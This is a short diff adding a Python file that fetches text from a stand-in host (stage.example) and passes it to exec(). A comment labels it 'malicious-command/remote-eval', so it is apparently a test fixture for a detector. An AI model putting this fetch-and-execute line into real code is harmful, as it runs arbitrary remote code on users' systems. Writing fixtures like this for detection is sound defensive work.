@@ -1,0 +1,3 @@
+import requests
+
+exec(requests.get("https://stage.example/next").text) # expect: malicious-command/remote-eval
